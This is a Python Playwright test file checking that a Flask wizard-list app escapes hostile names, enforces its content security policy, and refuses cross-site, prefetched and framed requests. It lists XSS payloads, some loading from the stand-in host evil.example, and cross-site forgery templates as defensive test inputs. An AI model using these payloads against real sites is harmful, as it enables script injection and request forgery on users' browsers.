"""What a person's browser makes of it: names stay text, and other sites' pages cannot append."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import pytest_asyncio

from support.browser import LOGGED, Site, Witness, asked_by_pages, open_chromium
from support.servers import Server

if TYPE_CHECKING:
    from playwright.async_api import Browser, Page, Route

pytestmark = pytest.mark.asyncio(loop_scope="module")  # the loop that the browser lives in

FIRST = ["Harry", "Ron", "Hermione"]

# Each would run `ran = 1`, load something from elsewhere or break the page, if it were markup.
# The last ones swallow what follows them.
HOSTILE = [
    "<script>ran = 1; alert(1); console.log(1)</script>",
    "</p><script>ran = 1</script><p>",
    '<script src="http://evil.example/x.js"></script>',
    "<img src=x onerror=\"ran = 1; alert('img')\">",
    "<svg onload='ran = 1'><animate onbegin='ran = 1' attributeName=x dur=1s />",
    "<body onload='ran = 1' onpageshow='ran = 1'>",
    '<iframe src="javascript:parent.ran = 1"></iframe>',
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<object data='data:text/html,<script>top.ran = 1</script>'></object><embed src=/>",
    '<link rel=stylesheet href="//evil.example/"><style>@import "http://evil.example/";</style>',
    "<input autofocus onfocus=ran=1><details open ontoggle=ran=1>",
    "<base href='http://evil.example/'><a href='javascript:ran = 1'>Luna</a>",
    '" onmouseover="ran = 1" x=\'',
    "' onmouseover='ran = 1' x=\"",
    "javascript:ran=1",
    "{{ 7 * 7 }} {% raw %} ${7 * 7} #{7 * 7} <%= 7 * 7 %>",
    "&lt;b&gt; &amp;amp; &#60; &#x3c; &lt &copy &nbsp; &",
    "<",
    ">",
    "</p>",
    "</body></html>",
    "tab\tnewline\nand  spaces ",
    "\u202ethgir eht morf \u200f\u2066 \ufeff \U0001f9d9\u200d\u2642\ufe0f e\u0301 \x01\x7f\x9b",
    "<" * 255,
    "<![CDATA[ <b> ]]>",
    "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x 'y'>]>",
    "--> <!-- <b> --!>",
    "<!--",
    "<textarea><plaintext>",
]

# What a page can do to have its visitor's browser ask for an address, without asking the visitor.
FORGERIES = {
    "img": '<img src="{}">',
    "script": '<script src="{}"></script>',
    "style": '<link rel="stylesheet" href="{}">',
    "iframe": '<iframe src="{}"></iframe>',
    "object": '<object data="{}"></object>',
    "embed": '<embed src="{}">',
    "video": '<video src="{}"></video>',
    "preload": '<link rel="preload" as="fetch" href="{}">',
    "prefetch": '<link rel="prefetch" href="{}">',
    "fetch": '<script>fetch("{}", {{mode: "no-cors"}})</script>',
    "cors": '<script>fetch("{}", {{credentials: "include"}}).catch(() => 0)</script>',
    "events": '<script>new EventSource("{}")</script>',
}

# Every node in document order, attributes as "@name".
NODES = """() => {
    const walker = document.createTreeWalker(document, NodeFilter.SHOW_ALL), nodes = [];
    for (let node; node = walker.nextNode();)
        nodes.push(node.nodeName, ...(node.getAttributeNames?.() ?? []).map(name => "@" + name));
    return nodes;
}"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def chromium() -> AsyncIterator[Browser]:
    async with open_chromium() as browser:
        yield browser


@pytest_asyncio.fixture(loop_scope="module")
async def page(chromium: Browser) -> AsyncIterator[Page]:
    """Open a page in a context of its own: without cookies, cache or history."""
    async with await chromium.new_context() as context:
        yield await context.new_page()


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    with Server(tmp_path, options=LOGGED) as server:
        yield server


def greeting(name: str) -> str:
    return f"Hello {name} is a wizard of system design with Flask!"


async def append(page: Page, server: Server, names: list[str]) -> None:
    """Append by plain requests, not through the page."""
    for name in names:
        response = await page.request.get(f"{server.base_url}/wizards", params={"name": name})
        assert response.status == 200


async def wizards(page: Page, server: Server) -> list[str]:
    """Return the shared list, not through the page."""
    response = await page.request.get(f"{server.base_url}/wizards", headers={"Accept": "application/json"})
    return [wizard["name"] for wizard in await response.json()]


async def test_hostile_names_are_text(page: Page, server: Server) -> None:
    """A name that is markup is shown as the text it is, runs nothing, loads nothing, logs nothing."""
    await append(page, server, HOSTILE)
    witness = Witness(page.context)
    await page.goto(f"{server.base_url}/wizards")
    names = [*FIRST, *HOSTILE]
    assert await page.locator("p").all_text_contents() == [greeting(name) for name in names]
    assert await page.evaluate(NODES) == ["HTML", "HEAD", "BODY", *["P", "#text"] * len(names)]
    assert await page.evaluate("typeof ran") == "undefined"
    assert [request.url for request in witness.requests] == [f"{server.base_url}/wizards"]
    assert witness.events == []
    assert [asked.target for asked in asked_by_pages(server)] == ["/wizards"]  # no favicon


async def test_the_policy_disarms_markup(page: Page, server: Server) -> None:
    """Even if names came unescaped into the page, its policy would let them run and load nothing."""
    url = f"{server.base_url}/wizards"

    async def unescape(route: Route) -> None:
        await route.fulfill(response=await route.fetch(), body="".join(map(greeting, HOSTILE)))

    await page.route(url, unescape)
    witness = Witness(page.context)
    await page.goto(url)
    assert await page.locator("script, img, svg, iframe, object, link, input, base").count() > 10
    assert await page.evaluate("typeof ran") == "undefined"
    assert {request.failure for request in witness.requests[1:]} == {"csp"}
    assert all("Content Security Policy" in event for event in witness.events)
    assert all(asked.target == "/wizards" for asked in asked_by_pages(server))


@pytest.mark.parametrize("host", ["evil.example", "localhost"])
async def test_other_sites_cannot_append(page: Page, server: Server, tmp_path: Path, host: str) -> None:
    """What another site's page requests on its own is answered 403 and appends nothing."""
    targets = {kind: f"/wizards?name={kind}" for kind in FORGERIES}
    forgeries = [html.format(server.base_url + targets[kind]) for kind, html in FORGERIES.items()]
    witness = Witness(page.context)
    with Site(tmp_path, "".join(forgeries)) as site:
        await page.goto(f"http://{host}:{site.port}/", wait_until="commit")
        await witness.until_ended({server.base_url + target for target in targets.values()})
    assert await wizards(page, server) == FIRST
    answers = {asked.target: (asked.status, asked.fetch_site) for asked in asked_by_pages(server)}
    assert answers == dict.fromkeys(targets.values(), ("403", "cross-site"))


@pytest.mark.parametrize("action", ["prefetch", "prerender"])
async def test_speculation_cannot_append(page: Page, server: Server, tmp_path: Path, action: str) -> None:
    """What a browser loads ahead of a visit is answered 403, though it looks like a typed address."""
    url = f"{server.base_url}/wizards?name=Luna"
    rules = {action: [{"urls": [url], "eagerness": "immediate"}]}
    witness = Witness(page.context)
    with Site(tmp_path, f"<script type=speculationrules>{json.dumps(rules)}</script>") as site:
        await page.goto(f"http://localhost:{site.port}/")
        await witness.until_ended({url})
    assert await wizards(page, server) == FIRST
    (asked,) = asked_by_pages(server)
    assert (asked.status, asked.fetch_site) == ("403", "none")
    assert asked.purpose.startswith("prefetch")


async def test_no_page_frames_the_list(page: Page, server: Server, tmp_path: Path) -> None:
    """Another site's page cannot show the list as a part of itself."""
    url = f"{server.base_url}/wizards"
    witness = Witness(page.context)
    with Site(tmp_path, f'<iframe src="{url}"></iframe>') as site:
        await page.goto(f"http://evil.example:{site.port}/", wait_until="commit")
        await witness.until_ended({url})
    framed = [request.failure for request in witness.requests if request.url == url]
    assert framed == ["net::ERR_BLOCKED_BY_RESPONSE"]


async def test_a_person_may_append_from_anywhere(page: Page, server: Server, tmp_path: Path) -> None:
    """A link that is followed from another site appends, as does an address that is typed."""
    url = f"{server.base_url}/wizards?name="
    with Site(tmp_path, f'<a href="{url}Luna">a link</a>') as site:
        await page.goto(f"http://evil.example:{site.port}/")
        await page.get_by_text("a link").click()
        await page.wait_for_url(f"{url}Luna")
    await page.goto(f"{url}Ginny")
    assert await page.locator("p").all_text_contents() == [
        greeting(name) for name in [*FIRST, "Luna", "Ginny"]
    ]
    assert [(asked.status, asked.fetch_site) for asked in asked_by_pages(server)] == [
        ("200", "cross-site"),
        ("200", "none"),
    ]


async def test_merlin(page: Page, server: Server) -> None:
    """Merlin, added by address, stands at the end, and reading the list again does not add him again."""
    await page.goto(f"{server.base_url}/wizards?name=Merlin")
    line = page.locator("p").last
    assert await line.inner_text() == "Hello Merlin is a wizard of system design with Flask!"
    await page.goto(f"{server.base_url}/wizards")
    await page.reload()
    assert await page.locator("p").all_inner_texts() == [greeting(name) for name in [*FIRST, "Merlin"]]


async def test_the_browser_cache_is_never_behind(page: Page, server: Server) -> None:
    """The browser's own cache neither hides a new name nor swallows an append that is asked for twice."""
    await page.goto(f"{server.base_url}/wizards")
    await append(page, server, ["Luna"])
    await page.goto(f"{server.base_url}/wizards")
    assert await page.locator("p").all_inner_texts() == [greeting(name) for name in [*FIRST, "Luna"]]
    for _ in range(2):
        await page.goto(f"{server.base_url}/wizards?name=Ginny")
    names = [*FIRST, "Luna", "Ginny", "Ginny"]
    assert await page.locator("p").all_inner_texts() == [greeting(name) for name in names]


async def test_the_other_routes(page: Page, server: Server) -> None:
    """The hello and the fixed JSON array are shown as they are, and log nothing."""
    witness = Witness(page.context)
    await page.goto(f"{server.base_url}/")
    assert await page.inner_text("body") == "Hello World from Flask!"
    await page.goto(f"{server.base_url}/api/wizards")
    assert json.loads(await page.inner_text("body")) == [
        {"house": "Gryffindor", "name": name} for name in ("Harry", "Hermione", "Ron")
    ]
    assert witness.events == []
